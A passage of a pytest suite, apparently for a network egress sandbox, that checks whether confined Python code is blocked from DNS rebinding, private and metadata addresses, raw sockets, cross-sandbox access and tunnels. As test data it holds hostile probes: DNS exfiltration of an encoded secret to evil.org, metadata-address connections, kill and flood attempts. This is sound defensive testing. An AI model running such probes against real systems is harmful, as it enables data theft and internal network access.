    only(online, result, reached=[(6, SITE4, 443)], asked=[OK])
    assert not online.net.hellos and "TLS" not in result.out.replace("SSL", ""), result


# --- (f) DNS -------------------------------------------------------------------------------------------------------------------

def alternating(*answers):
    """Each lookup (A and AAAA are one) gets the next answer; the last one stays."""
    state = {"n": 0}

    def give():
        i = min(state["n"] // 2, len(answers) - 1)
        state["n"] += 1
        return [("AAAA" if ":" in a else "A", a) for a in answers[i]]
    return give


TRY_AGAIN = """
for i in range(4):
    for f in (lambda: talk(P, get('re.example.org', 'http://re.example.org/%d' % i), 2),
              lambda: talk((socket.gethostbyname('re.example.org'), 80), get('re.example.org', '/s%d' % i), 2),
              lambda: connect('re.example.org:8123')[1]):
        try: print(f()[:40])
        except OSError as e: print(e)
""" + ENDS


@pytest.mark.parametrize("then", ["10.0.0.5", "127.0.0.1", HOST4, "169.254.169.254", "::1", "::ffff:10.0.0.5", "fd12::5"])
def test_rebinding(online, then):
    online.net.names["re.example.org"] = alternating([SITE4], [then])
    result = online.python(TRY_AGAIN, allow=["re.example.org", "re.example.org:8123"])
    only(online, result, reached=[(6, SITE4, 80), (6, SITE4, 8123)], asked=["re.example.org"], hosts=["re.example.org"])
    assert len(online.net.requests) <= 1, online.net.requests


def test_what_was_checked_is_what_is_dialled(online):
    """One lookup to a connection: there is no second answer between the check and the use."""
    online.net.names["re.example.org"] = alternating([SITE4], ["10.0.0.5"])
    result = online.python("print(talk(P, get('re.example.org', 'http://re.example.org/')))" + ENDS, allow=["re.example.org"])
    only(online, result, reached=[(6, SITE4, 80)], asked=["re.example.org"], hosts=["re.example.org"])
    assert sorted(k for _, k in online.net.queries) == ["A", "AAAA"] and len(online.net.requests) == 1


@pytest.mark.parametrize("answers", [[SITE4, "10.0.0.5"], ["10.0.0.5", SITE4], [SITE4, SITE6, "fd12::5"], [SITE4, "::1"],
                                     [SITE4, "127.0.0.1"], [SITE4, HOST4], [SITE6, "169.254.169.254"], [OTHER4, "0.0.0.0"],
                                     [SITE4, "::ffff:10.0.0.5"]], ids=" ".join)
def test_mixed_answers_open_nothing(online, answers):
    online.net.names["mix.example.org"] = [("AAAA" if ":" in a else "A", a) for a in answers]
    result = online.python(EVERY_WAY + "every_way('mix.example.org')" + ENDS, allow=["mix.example.org"])
    only(online, result, asked=["mix.example.org"])


@pytest.mark.parametrize("chain", [["inside.example.org"], ["localhost"], ["one.example.org", "two.example.org"]], ids="-".join)
@pytest.mark.parametrize("address", ["10.0.0.5", "127.0.0.1", "fd12::5"])
def test_alias_to_a_private_address(online, chain, address):
    kind = "AAAA" if ":" in address else "A"
    online.net.names["alias.example.org"] = [*(("CNAME", c) for c in chain), (kind, address)]
    result = online.python(EVERY_WAY + "every_way('alias.example.org')" + ENDS, allow=["alias.example.org"])
    only(online, result, asked=["alias.example.org"])


@pytest.mark.parametrize("allow", [[OK], ["*.example.org"], ["**.example.org"]], ids="".join)
def test_no_data_leaves_in_queries(online, allow):
    """Lookups alone carry nothing out: denied names are answered here, allowed ones when they are connected to."""
    code = """
secret = 'c2VjcmV0'
for i in range(40):
    for name in ('%s%d.evil.org' % (secret, i), '%s%d.example.org' % (secret, i), secret * 7 + '.evil.org'):
        for kind in (1, 28, 16, 65, 255, 10): ask(name, kind, ['8.8.8.8', '93.184.216.53', '198.18.0.1'][i % 3])
with dial('93.184.216.53', 53) as s:
    q = question(secret + '.evil.org', 16); s.sendall(struct.pack('>H', len(q)) + q); s.recv(99)
for bad in (b'', b'\\0' * 11, b'\\0' * 12, question('a.evil.org')[:-3], question(b'\\xc0\\x0c'), question(b'\\x3f' + b'a' * 20),
            question(b'\\x40aaa\\0'), question('a.evil.org') * 2, bytes(1400), question('x')[:2] + b'\\x84\\0' + question('x')[4:]):
    s = socket.socket(2, 2); s.sendto(bad, ('8.8.8.8', 53))
print(summary(ask('ok.example.org'))[0])
""" + ENDS
    result = online.python(code, allow=allow)
    only(online, result)
    assert result.out.startswith("0\n"), result


def test_queries_leave_without_the_wall(online):
    online.host_python(f"ask('c2VjcmV0.evil.org', 1, {DNS4!r})")
    assert "c2VjcmV0.evil.org".lower() in online.net.asked()


@pytest.mark.parametrize("host", ["secret.evil.org", "dns.google", "cloudflare-dns.com", "evil.example.org"])
def test_denied_names_are_not_looked_up_for_any_protocol(online, host):
    result = online.python(EVERY_WAY + f"every_way({host!r}); every_way({host!r}, 443); every_way({host!r}, 853)" + ENDS)
    only(online, result, reached=[(6, SITE4, 80), (6, SITE4, 443)], asked=[OK], hosts=[])


# --- other protocols and ports ------------------------------------------------------------------------------------------------

TARGETS = [SITE4, OTHER4, DNS4, "10.0.0.5", "169.254.169.254", HOST4, SITE6, "fd12::5", HOST6]


@pytest.mark.parametrize("target", TARGETS)
def test_direct_connections(online, target):
    code = f"""
for port in (22, 25, 53, 80, 443, 853, 3128, 1080, 7777, 8080, 8123, 8443):
    for data in (b'', get({target!r}, '/smuggled')):
        try:
            with dial({target!r}, port, 2) as s: s.sendall(data); print(port, drain(s, .2)[:40] if data else '')
        except OSError as e: print(port, errno.errorcode.get(e.errno, e))
""" + ENDS
    result = online.python(code)
    only(online, result)
    assert "SSH-2.0" not in result.out and "host service" not in result.out and "hello" not in result.out


@pytest.mark.parametrize("target", [*TARGETS, "255.255.255.255", "224.0.0.251", "ff02::fb", "8.8.8.8"])
def test_datagrams(online, target):
    """QUIC, NTP, mDNS, syslog, DTLS, anything: also over a connected socket, and with many calls."""
    code = f"""
for port in (443, 80, 123, 514, 1900, 5353, 4433, 33434, 8123, 7777, 3128):
    s = socket.socket(family({target!r}), socket.SOCK_DGRAM); s.settimeout(.05)
    for f in (lambda: s.sendto(b'QUIC' + bytes(1200), ({target!r}, port)), lambda: s.connect(({target!r}, port)),
              lambda: s.send(b'x'), lambda: s.setsockopt(1, 6, 1), lambda: s.sendto(b'x', ({target!r}, port))):
        try: f()
        except OSError as e: pass
    try: print('ANSWER', s.recv(100))
    except OSError: pass
""" + ENDS
    result = online.python(code)
    only(online, result)
    assert "ANSWER" not in result.out, result


OTHERS = {
    "ping socket": f"s = socket.socket(2, 2, 1); s.sendto(b'\\x08\\0\\0\\0\\0\\1\\0\\1', ('{SITE4}', 0))",
    "raw ICMP": f"s = socket.socket(2, 3, 1); s.sendto(b'\\x08\\0\\xf7\\xfe\\0\\1\\0\\0', ('{SITE4}', 0))",
    "raw IP": f"s = socket.socket(2, 3, 255); s.sendto(bytes(40), ('{SITE4}', 0))",
    "ping 6": f"s = socket.socket(10, 2, 58); s.sendto(b'\\x80\\0\\0\\0\\0\\1\\0\\1', ('{SITE6}', 0))",
    "packet": "s = socket.socket(17, 3, 768); s.bind(('lo', 0)); s.send(bytes(64))",
    "SCTP": f"s = socket.socket(2, 1, 132); s.connect(('{SITE4}', 80))",
    "DCCP": f"s = socket.socket(2, 6, 33); s.connect(('{SITE4}', 80))",
    "UDP-Lite": f"s = socket.socket(2, 2, 136); s.sendto(b'x', ('{SITE4}', 53))",
    "MPTCP": f"s = socket.socket(2, 1, 262); s.settimeout(1); s.connect(('{SITE4}', 8080))",
    "TCP fast open": f"s = socket.socket(); s.settimeout(1); s.sendto(b'x', 0x20000000, ('{SITE4}', 8080))",
    "source routing": f"s = socket.socket(); s.setsockopt(0, 4, bytes([131, 7, 4, 93, 184, 216, 34])); s.connect(('{SITE4}', 8080))",
    "bind to device": f"s = socket.socket(); s.setsockopt(1, 25, b'near'); s.connect(('{SITE4}', 80))",
    "mark": f"s = socket.socket(); s.setsockopt(1, 36, 1); s.connect(('{SITE4}', 8080))",
    "transparent": f"s = socket.socket(); s.setsockopt(0, 19, 1); s.bind(('{HOST4}', 5555)); s.connect(('{SITE4}', 8080))",
    "abstract": "s = socket.socket(1); s.connect('\\0' + ABSTRACT); print('REACHED', s.recv(20))",
    "vsock": "s = socket.socket(40, 1); s.settimeout(1); s.connect((2, 22))",
    "route": "s = socket.socket(16, 3, 0); s.bind((0, 0)); s.send(struct.pack('IHHIIBBBBBBBBI', 28, 25, 5, 1, 0, 2, 0, 0, 0, "
             "255, 2, 253, 2, 0)); e = struct.unpack_from('i', s.recv(999), 16)[0]; print('CHANGED' if e == 0 else e)",
}


@requirement("R12")
@pytest.mark.parametrize("case", OTHERS)
def test_other_protocols(online, case):
    code = f"""
ABSTRACT = {online.net.abstract!r}
try: {OTHERS[case]}; print('sent')
except OSError as e: print(e)
""" + ENDS
    result = online.python(code)
    only(online, result)
    assert "REACHED" not in result.out and "CHANGED" not in result.out, result


def test_those_arrive_without_the_wall(online):
    online.host_python(f"""
s = socket.socket(2, 2); s.sendto(b'QUIC', ('{SITE4}', 443)); s.sendto(b'x', ('10.0.0.5', 514))
s = socket.socket(2, 3, 1); s.sendto(b'\\x08\\0\\xf7\\xfe\\0\\1\\0\\0', ('{SITE4}', 0))
print(dial('{SITE4}', 22).recv(20), dial('127.0.0.1', {online.net.host_port}).recv(20))
s = socket.socket(1); s.connect('\\0{online.net.abstract}')
""")
    assert {(17, SITE4, 443), (17, "10.0.0.5", 514), (1, SITE4, 0), (6, SITE4, 22)} <= online.net.reached()
    assert len(online.net.host_hits) == 2


# --- sandboxes beside each other ------------------------------------------------------------------------------------------------

LISTEN = """
s = socket.create_server(('0.0.0.0', 9999)); t = socket.create_server(('::', 9998), family=socket.AF_INET6)
u = socket.socket(socket.AF_UNIX); u.bind('\\0between'); u.listen(3)
print(socket.gethostbyname('b.example.org'), flush=True); sys.stdin.readline()
s.settimeout(.1)
try: s.accept(); print('VISITED')
except OSError: print('alone')
"""


@requirement("R12")
def test_two_sandboxes_do_not_reach_each_other(online):
    first = online.popen(["/usr/bin/python3", "-I", "-c", PRELUDE + LISTEN], allow=["b.example.org"], stdin=subprocess.PIPE)
    fake = first.stdout.readline().decode().strip()
    code = EVERY_WAY + f"""
for host in ('127.0.0.1', '0.0.0.0', '198.18.0.1', {fake!r}, '::1', {HOST4!r}):
    for port in (9999, 9998):
        for where in (P, S):
            try: print(talk(where, b'CONNECT %s:%d HTTP/1.1\\r\\n\\r\\n' % (host.encode(), port), 1)[:40])
            except OSError as e: print(e)
        try: print('closed' if drain(dial(host, port, 1), 1)[:1] in (b'', b'<') else 'REACHED')
        except OSError as e: print(e)
every_way({fake!r}, 80)
s = socket.socket(socket.AF_UNIX)
try: s.connect('\\0between'); print('REACHED')
except OSError as e: print(e)
""" + ENDS
    rules = [OK, *(f"{a}:{p}" for a in ("198.18.0.1", fake) for p in (9999, 3128, 1080))]
    second = online.python(code, allow=rules)
    out, err = first.communicate(b"\n", timeout=30)
    assert b"alone" in out and "REACHED" not in second.out, (out, err, second)
    only(online, second, asked=[OK])


def test_each_has_its_own_rules(online):
    first = online.popen(["/usr/bin/python3", "-I", "-c", PRELUDE + "print('up', flush=True); sys.stdin.readline()"],
                         allow=["b.example.org"], stdin=subprocess.PIPE)
    assert first.stdout.readline() == b"up\n"
    result = online.python(EVERY_WAY + "every_way('b.example.org')" + ENDS)
    first.communicate(b"\n", timeout=30)
    only(online, result, asked=[OK])


def test_the_sandbox_does_not_see_or_stop_its_keeper(online):
    code = """
seen = [open('/proc/%s/comm' % p).read().strip() for p in os.listdir('/proc') if p.isdigit()]
print('SEEN' if any('egress' in c for c in seen) else 'none')
try: os.kill(-1, 9)
except OSError: pass
""" + ENDS
    result = online.python(code)
    assert "SEEN" not in result.out and "none" in result.out, result


def test_a_flood_of_connections_is_survived(online):
    code = """
import resource; resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
held = []
try:
    for i in range(6000): held.append(dial(*P, 1))
except OSError as e: print(len(held), e)
for s in held: s.close()
time.sleep(.5)
print(talk(P, get('ok.example.org', 'http://ok.example.org/after')))
""" + ENDS
    result = online.python(code)
    only(online, result, reached=SITE, asked=[OK], hosts=[OK])
    assert wait_for(lambda: [r["path"] for r in online.net.requests] == ["/after"]), result


def test_the_report_names_what_was_tried(online):
    result = online.run(["/usr/bin/python3", "-I", "-c", PRELUDE + EVERY_WAY + "every_way('evil.example.org')"],
                        flags=["--json"])
    report = json.loads(result.out)
    assert any(d["target"].startswith("evil.example.org") for d in report["denied"]), report["denied"]


def test_a_tunnel_to_an_allowed_port_is_that_port_alone(online):
    code = f"""
for port in (22, 80, 443, 8080, {ECHO + 1}):
    print(connect('ok.example.org:%d' % port)[1][:20])
print(connect('ok.example.org:{ECHO}')[1][:20])
""" + ENDS
    result = online.python(code, allow=[f"ok.example.org:{ECHO}"])
    only(online, result, reached=[(6, SITE4, ECHO)], asked=[OK])
    assert result.out.count(" 403") == 5 and result.out.count(" 200") == 1, result
